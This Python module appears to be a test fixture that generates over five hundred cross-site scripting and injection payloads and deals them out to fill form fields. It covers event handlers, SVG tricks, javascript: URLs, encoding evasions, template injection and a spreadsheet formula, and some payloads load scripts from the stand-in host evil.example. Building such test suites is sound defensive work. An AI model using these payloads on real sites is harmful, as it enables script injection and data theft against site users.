"""More than five hundred texts that a careless page would obey: what runs, times the place it breaks out of.

Each calls `alert` with a number of its own, or `beacon`, which the browser of the tests listens to, or asks evil.example. Most are short
enough for the shortest fields; `fitting` hands out as many as go into a field, and goes on with the next ones in the next field.
"""

from __future__ import annotations

from dataclasses import dataclass, field

_TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt>beacon({n})</sCrIpT>",
    "<script/x>alert({n})</script>",
    "<script src=//evil.example/{n}></script>",
    "<script type=module>beacon({n})</script>",
    "<scr<script>ipt>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=beacon({n})>",
    "<IMG SRC=x oNeRrOr=alert({n})>",
    "<img src=x onerror\n=alert({n})>",
    "<img src=//evil.example/{n}>",
    "<img srcset=//evil.example/{n}>",
    "<img src=x:x onerror=alert`{n}`>",
    "<picture><source srcset=//evil.example/{n}><img>",
    "<svg onload=alert({n})>",
    "<svg/onload=beacon({n})//",
    "<svg><script>alert({n})</script>",
    "<svg><script xlink:href=//evil.example/{n} />",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=beacon({n}) attributeName=x>",
    "<svg><a xlink:href=javascript:alert({n})><text>x</text></a>",
    "<svg><use href=//evil.example/{n}#x>",
    "<svg><foreignObject><iframe srcdoc=x onload=alert({n})>",
    "<svg><style>@import '//evil.example/{n}'</style>",
    "<svg><image href=//evil.example/{n}>",
    "<math href=javascript:alert({n})>x</math>",
    "<math><mtext><img src=x onerror=alert({n})>",
    "<math><maction xlink:href=javascript:alert({n})>x",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<iframe src=//evil.example/{n}>",
    "<iframe onload=beacon({n})>",
    "<object data=//evil.example/{n}>",
    "<object data=javascript:alert({n})>",
    "<embed src=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<style>@import '//evil.example/{n}';</style>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style=background:url(//evil.example/{n})>x",
    "<p style='width:expression(alert({n}))'>x",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>x",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=beacon({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<x tabindex=1 autofocus onfocus=alert({n})>",
    "<x onanimationstart=alert({n}) style=animation:spin>",
    "<video><source onerror=alert({n})></video>",
    "<video poster=//evil.example/{n}>",
    "<audio src=x onerror=beacon({n})>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<form action=//evil.example/{n}><button>x",
    "<button formaction=javascript:alert({n})>x",
    "<isindex type=image src=1 onerror=alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java\tscript:alert({n})'>x</a>",
    "<a href=data:text/html,<script>alert({n})</script>>x",
    "<a href=//evil.example/{n} ping=//evil.example/{n}>x",
    "<div x-data x-init=alert({n})></div>",
    "<div x-data x-html=\"'<img src=x onerror=alert({n})>'\">",
    "<div x-data @click=alert({n})>x</div>",
    "<div x-data :href=`javascript:alert({n})`>x</div>",
    "<div hx-get=//evil.example/{n} hx-trigger=load></div>",
    "<div hx-on::load=alert({n})></div>",
    "<div data-hx-get=//evil.example/{n} hx-trigger=revealed>",
    "<template x-if=alert({n})></template>",
    "<template shadowrootmode=open><script>alert({n})</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<![CDATA[><img src=x onerror=alert({n})>]]>",
    "<?xml?><script>alert({n})</script>",
    "<dialog open onfocus=alert({n}) autofocus>",
    "<portal src=//evil.example/{n}>",
)
_BREAKS = ("{}", '">{}', "'>{}", "</textarea>{}", "</title></style></script>{}", "-->{}")
_OTHERS = (
    '" onmouseover=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    "` onerror=alert({n}) `",
    '" style=background:url(//evil.example/{n}) x="',
    '" x-init="alert({n})',
    '" hx-get="//evil.example/{n}" hx-trigger="load',
    '" href="javascript:alert({n})',
    '"><script>alert({n})</script><x y="',
    "javascript:alert({n})",
    "JaVaScRiPt://%0aalert({n})",
    "\x01javascript:alert({n})",
    "java&#9;script:alert({n})",
    "&#106;avascript:alert({n})",
    "vbscript:msgbox({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:image/svg+xml,<svg onload=alert({n})>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "&#x3c;img src=x onerror=alert({n})&#x3e;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "%253Cscript%253Ealert({n})%253C/script%253E",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert({n})\\x3e",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "\u2039img src=x onerror=alert({n})\u203a",
    "\u202e<img src=x onerror=alert({n})>",
    "\ufeff<script>alert({n})</script>",
    "<\u200bscript>alert({n})</script>",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "{{{{ 7*{n} }}}}{{% debug %}}",
    "${{alert({n})}}",
    "#{{alert({n})}}<%= alert({n}) %>",
    "[[${{alert({n})}}]]",
    "</script><script>alert({n})</script>",
    '"}}</script><script>beacon({n})</script>',
    "';alert({n})//",
    '";alert({n});//',
    "\\';alert({n})//",
    "]]>;alert({n})//",
    "\u2028alert({n})\u2029",
    "[x](javascript:alert({n}))",
    "![x](//evil.example/{n})",
    "![x](x 'onerror=alert({n})')",
    "<javascript:alert({n})>",
    "[x]: javascript:alert({n})",
    '=HYPERLINK("//evil.example/{n}","x")',
    "../../{n}<img src=x onerror=alert({n})>.png",
    '{n}.svg" onload="alert({n})',
    "{n}.html;<script>alert({n})</script>",
    "*/alert({n})/*",
    "<!--#exec cmd=alert({n})-->",
    "\"'`><x onclick=alert({n})>x</x>",
    "%(title)s {{0.__class__}} {{title}} {n}",
)

PAYLOADS: tuple[str, ...] = tuple(
    one.format(n=number) for number, one in enumerate([*(broken.format(tag) for tag in _TAGS for broken in _BREAKS), *_OTHERS], start=1)
)


@dataclass
class Dealt:
    """Hands the payloads out in their order, from `begin` on; `given` are those that some field took."""

    begin: int = 0
    given: set[str] = field(default_factory=set)

    def fitting(self, most: int) -> str:
        """As many of the next ones as go into `most` characters, twelve at most. What is too long waits for a longer field."""
        taken: list[str] = []
        for offset in range(len(PAYLOADS)):
            one = PAYLOADS[(self.begin + offset) % len(PAYLOADS)]
            if len(" ".join([*taken, one])) <= most:
                taken.append(one)
            elif taken:
                break
            if len(taken) == 12:
                break
        self.begin += len(taken)
        self.given |= set(taken)
        return " ".join(taken)
